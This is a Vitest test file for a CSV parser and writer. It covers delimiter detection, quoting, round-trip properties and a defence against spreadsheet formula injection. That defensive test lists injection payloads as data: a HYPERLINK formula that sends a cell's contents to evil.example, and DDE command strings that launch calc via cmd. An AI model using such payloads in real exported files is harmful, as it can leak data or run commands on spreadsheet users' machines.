import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine, detectDelimiter, parseCsv } from './csv';

describe('CSV', () => {
  it('detects the separator Italian and English spreadsheets use', () => {
    expect(detectDelimiter('sku;nome;prezzo\n1;a;2,50')).toBe(';');
    expect(detectDelimiter('sku,name,price\n1,a,2.50')).toBe(',');
    expect(detectDelimiter('"a;b",c,d\n')).toBe(',');
  });

  it('reads quotes, doubled quotes, line breaks inside quotes, CRLF and a BOM', () => {
    const text = '\uFEFFsku;nome\r\n1;"Olio ""extra"";\nvergine"\r\n\r\n2;Pane\n';
    expect([...parseCsv(text)]).toEqual([
      { line: 1, fields: ['sku', 'nome'] },
      { line: 2, fields: ['1', 'Olio "extra";\nvergine'] },
      { line: 5, fields: ['2', 'Pane'] },
    ]);
  });

  it('names the line of a quote that is never closed', () => {
    expect(() => [...parseCsv('a;b\n1;"open\n2;x\n')]).toThrow(/Line 2/);
  });

  it('reads back exactly what it writes (property)', () => {
    const field = fc.string({ unit: fc.constantFrom('a', 'è', ';', ',', '"', '\n', ' ', '1', '€', '=', '+', '-', '@', '\t', '\r', "'") });
    fc.assert(
      fc.property(fc.constantFrom<';' | ','>(';', ','), fc.array(fc.array(field, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 8 }), (sep, rows) => {
        const nonBlank = rows.filter((r) => !(r.length === 1 && r[0]!.trim() === ''));
        const text = nonBlank.map((r) => csvLine(r, sep)).join('\n');
        expect([...parseCsv(text, sep)].map((r) => r.fields)).toEqual(nonBlank);
      }),
    );
  });

  it('guards cells a spreadsheet would run as formulas (OWASP), keeping negative numbers as numbers', () => {
    const attacks = ['=HYPERLINK("http://evil.example/?"&A1;"click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
    for (const attack of attacks) {
      const written = csvField(attack, ';');
      // Unquoted, or inside quotes: the first character Excel sees is a quote, never a formula trigger.
      expect(written.replace(/^"/, '')).toMatch(/^'/);
      expect([...parseCsv(`a;b\n${written};x\n`, ';')][1]?.fields).toEqual([attack, 'x']);
    }
    expect(csvLine(['-12,50', '-3', '-1.234,56', '12'], ';')).toBe('-12,50;-3;-1.234,56;12');
    expect(csvLine(['-12.50', '-'], ',')).toBe("-12.50,'-");
    // A user's own leading apostrophe survives the round trip too.
    expect(csvField("'=x", ';')).toBe("''=x");
    expect([...parseCsv("a\n''=x\n'-5\n", ';')].map((r) => r.fields[0])).toEqual(['a', "'=x", "'-5"]);
  });
});
